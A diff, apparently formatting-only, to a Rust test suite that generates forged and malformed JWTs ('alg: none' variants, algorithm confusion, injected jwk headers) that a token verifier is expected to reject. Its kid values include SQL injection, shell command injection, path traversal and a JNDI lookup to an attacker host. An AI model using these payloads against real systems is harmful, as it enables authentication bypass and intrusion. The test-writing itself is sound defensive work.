@@ -24,7 +24,10 @@ fn algorithms(policies: &Policies) -> Vec<TokenCase> {
         cases.push(TokenCase::new(format!("a good {algorithm} token"), partner.token(algorithm), VALID));
     }
     // Every other algorithm's name over a signature that holds for the key.
-    let names = ALGORITHMS.iter().map(|(name, _)| *name).chain(["HS256", "HS384", "HS512", "ES256K", "Ed25519", "RSA-OAEP", "dir", "A256GCM"]);
+    let names = ALGORITHMS
+        .iter()
+        .map(|(name, _)| *name)
+        .chain(["HS256", "HS384", "HS512", "ES256K", "Ed25519", "RSA-OAEP", "dir", "A256GCM"]);
     for claimed in names {
         for (real, kid) in ALGORITHMS {
             if claimed == *real {
@@ -35,12 +38,32 @@ fn algorithms(policies: &Policies) -> Vec<TokenCase> {
             cases.push(TokenCase::new(format!("{real} called {claimed}"), token, BAD_SIGNATURE));
         }
     }
-    for none in ["none", "None", "NONE", "nOnE", "", " ", "none ", "null", "undefined", "es256", "Es256", "eddsa", "ES256\0", " ES256", "ES256,none"] {
+    for none in [
+        "none",
+        "None",
+        "NONE",
+        "nOnE",
+        "",
+        " ",
+        "none ",
+        "null",
+        "undefined",
+        "es256",
+        "Es256",
+        "eddsa",
+        "ES256\0",
+        " ES256",
+        "ES256,none",
+    ] {
         for kid in [Some("p256"), None] {
             let header = json!({"alg": none, "kid": kid}).to_string();
             let unsigned = format!("{}.{}.", base64url(&header), base64url(partner.claims().to_string()));
             cases.push(TokenCase::new(format!("alg {none:?}, kid {kid:?}, unsigned"), unsigned.clone(), MALFORMED));
-            cases.push(TokenCase::new(format!("alg {none:?}, kid {kid:?}, some signature"), format!("{unsigned}AAAA"), BAD_SIGNATURE));
+            cases.push(TokenCase::new(
+                format!("alg {none:?}, kid {kid:?}, some signature"),
+                format!("{unsigned}AAAA"),
+                BAD_SIGNATURE,
+            ));
             let signed = partner.seal(header, partner.claims().to_string(), "ES256");
             cases.push(TokenCase::new(format!("alg {none:?}, kid {kid:?}, rightly signed"), signed, BAD_SIGNATURE));
         }
@@ -87,7 +110,9 @@ fn injected_keys(policies: &Policies) -> Vec<TokenCase> {
         ("jwk that is no key", "jwk", json!(null)),
         ("jwk of a wrong type", "jwk", json!([1])),
     ] {
-        for (kid, expected) in [(json!("p256"), BAD_SIGNATURE), (json!("attacker"), UNKNOWN_KEY), (Value::Null, BAD_SIGNATURE)] {
+        for (kid, expected) in
+            [(json!("p256"), BAD_SIGNATURE), (json!("attacker"), UNKNOWN_KEY), (Value::Null, BAD_SIGNATURE)]
+        {
             let mut header = json!({"alg": "ES256", "kid": kid, "typ": "JWT"});
             header[member] = value.clone();
             let token = attacker.seal(header.to_string(), attacker.claims().to_string(), "ES256");
@@ -106,22 +131,67 @@ fn kids(policies: &Policies) -> Vec<TokenCase> {
     let mut cases = Vec::new();
     let long = "k".repeat(8 * 1024);
     for kid in [
-        "", " ", "P256", "p256 ", " p256", "p256\0", "p25", "p2566", "../p256", "/dev/null", "../../../../dev/null", "file:///dev/null",
-        "https://attacker.example/key", "p256' OR '1'='1", "p256; DROP TABLE keys", "$(id)", "`id`", "| id", "%70256", "p256%00",
-        "\u{0000}", "\u{202e}652p", "ｐ256", "pé", "*", "p*", "{{7*7}}", "${jndi:ldap://attacker.example}", "0", "null", "undefined", "__proto__", "constructor", &long,
+        "",
+        " ",
+        "P256",
+        "p256 ",
+        " p256",
+        "p256\0",
+        "p25",
+        "p2566",
+        "../p256",
+        "/dev/null",
+        "../../../../dev/null",
+        "file:///dev/null",
+        "https://attacker.example/key",
+        "p256' OR '1'='1",
+        "p256; DROP TABLE keys",
+        "$(id)",
+        "`id`",
+        "| id",
+        "%70256",
+        "p256%00",
+        "\u{0000}",
+        "\u{202e}652p",
+        "ｐ256",
+        "pé",
+        "*",
+        "p*",
+        "{{7*7}}",
+        "${jndi:ldap://attacker.example}",
+        "0",
+        "null",
+        "undefined",
+        "__proto__",
+        "constructor",
+        &long,
     ] {
         let header = json!({"alg": "ES256", "kid": kid, "typ": "JWT"}).to_string();
         let shown: String = kid.chars().take(24).collect();
-        cases.push(TokenCase::new(format!("kid {shown:?}"), partner.seal(header, partner.claims().to_string(), "ES256"), UNKNOWN_KEY));
+        cases.push(TokenCase::new(
+            format!("kid {shown:?}"),
+            partner.seal(header, partner.claims().to_string(), "ES256"),
+            UNKNOWN_KEY,
+        ));
     }
     // A kid of the set, but of another key.
-    for (kid, signer) in [("ed", "ES256"), ("rsa", "ES256"), ("p384", "ES256"), ("p256", "EdDSA"), ("p256", "ES384"), ("p521", "RS256")] {
+    for (kid, signer) in
+        [("ed", "ES256"), ("rsa", "ES256"), ("p384", "ES256"), ("p256", "EdDSA"), ("p256", "ES384"), ("p521", "RS256")]
+    {
         let header = json!({"alg": signer, "kid": kid, "typ": "JWT"}).to_string();
-        cases.push(TokenCase::new(format!("{signer} by the kid {kid}"), partner.seal(header, partner.claims().to_string(), signer), BAD_SIGNATURE));
+        cases.push(TokenCase::new(
+            format!("{signer} by the kid {kid}"),
+            partner.seal(header, partner.claims().to_string(), signer),
+            BAD_SIGNATURE,
+        ));
     }
     for (algorithm, _) in ALGORITHMS {
         let header = json!({"alg": algorithm}).to_string();
-        cases.push(TokenCase::new(format!("{algorithm} without a kid"), partner.seal(header, partner.claims().to_string(), algorithm), VALID));
+        cases.push(TokenCase::new(
+            format!("{algorithm} without a kid"),
+            partner.seal(header, partner.claims().to_string(), algorithm),
+            VALID,
+        ));
     }
     for kid in [json!("anything"), json!("../../x"), Value::Null] {
         let token = hmac_token(&json!({"alg": "HS256", "kid": kid}), &legacy_claims(), crate::rig::LEGACY_SECRET);
@@ -140,9 +210,20 @@ fn issuers(policies: &Policies, dev: &Dev) -> Vec<TokenCase> {
     for (algorithm, _) in ALGORITHMS {
         // One kid, two issuers: each issuer's key only.
         let claims = rival.claims_with(json!({"iss": partner.issuer}));
-        cases.push(TokenCase::new(format!("the rival's {algorithm} key under the partner's name"), rival.token_of(algorithm, &claims), BAD_SIGNATURE));
+        cases.push(TokenCase::new(
+            format!("the rival's {algorithm} key under the partner's name"),
+            rival.token_of(algorithm, &claims),
+            BAD_SIGNATURE,
+        ));
         let claims = partner.claims_with(json!({"iss": rival.issuer}));
-        cases.push(TokenCase::new(format!("the partner's {algorithm} key under the rival's name"), partner.token_of(algorithm, &claims), BAD_SIGNATURE).at("other"));
+        cases.push(
+            TokenCase::new(
+                format!("the partner's {algorithm} key under the rival's name"),
+                partner.token_of(algorithm, &claims),
+                BAD_SIGNATURE,
+            )
+            .at("other"),
+        );
     }
     for (what, issuer) in [
         ("in capitals", json!("HTTPS://PARTNER.EXAMPLE")),
@@ -200,12 +281,32 @@ fn own_tokens(policies: &Policies, dev: &Dev) -> Vec<TokenCase> {
         TokenCase::new("our own token at another policy", &own, UNTRUSTED_ISSUER).at("other"),
         TokenCase::new("another policy's token here", dev.token("other", "carol"), UNTRUSTED_ISSUER),
         TokenCase::new("our own token at a policy that only verifies", &own, UNTRUSTED_ISSUER).at("foreign"),
-        TokenCase::new("our own token with more roles", format!("{header}.{}.{signature}", base64url(admin.to_string())), BAD_SIGNATURE),
-        TokenCase::new("our own token with a header of the same meaning", format!("{}.{payload}.{signature}", base64url(format!(" {kid}"))), BAD_SIGNATURE),
+        TokenCase::new(
+            "our own token with more roles",
+            format!("{header}.{}.{signature}", base64url(admin.to_string())),
+            BAD_SIGNATURE,
+        ),
+        TokenCase::new(
+            "our own token with a header of the same meaning",
+            format!("{}.{payload}.{signature}", base64url(format!(" {kid}"))),
+            BAD_SIGNATURE,
+        ),
         TokenCase::new("our own token as an API key", format!("csk_{own}"), UNKNOWN_KEY),
         TokenCase::new("our claims by the partner's key, our kid", resigned(kid.clone(), &claims), BAD_SIGNATURE),
-        TokenCase::new("our claims by the partner's key, its kid", resigned(json!({"alg": "EdDSA", "kid": "ed", "typ": "at+jwt"}), &claims), UNKNOWN_KEY),
-        TokenCase::new("our claims by the partner's key, no kid", resigned(json!({"alg": "EdDSA", "typ": "at+jwt"}), &claims), BAD_SIGNATURE),
-        TokenCase::new("our claims by the legacy secret", hmac_token(&json!({"alg": "HS256", "kid": kid["kid"], "typ": "at+jwt"}), &claims, crate::rig::LEGACY_SECRET), BAD_SIGNATURE),
+        TokenCase::new(
+            "our claims by the partner's key, its kid",
+            resigned(json!({"alg": "EdDSA", "kid": "ed", "typ": "at+jwt"}), &claims),
+            UNKNOWN_KEY,
+        ),
+        TokenCase::new(
+            "our claims by the partner's key, no kid",
+            resigned(json!({"alg": "EdDSA", "typ": "at+jwt"}), &claims),
+            BAD_SIGNATURE,
+        ),
+        TokenCase::new(
+            "our claims by the legacy secret",
+            hmac_token(&json!({"alg": "HS256", "kid": kid["kid"], "typ": "at+jwt"}), &claims, crate::rig::LEGACY_SECRET),
+            BAD_SIGNATURE,
+        ),
     ]
 }
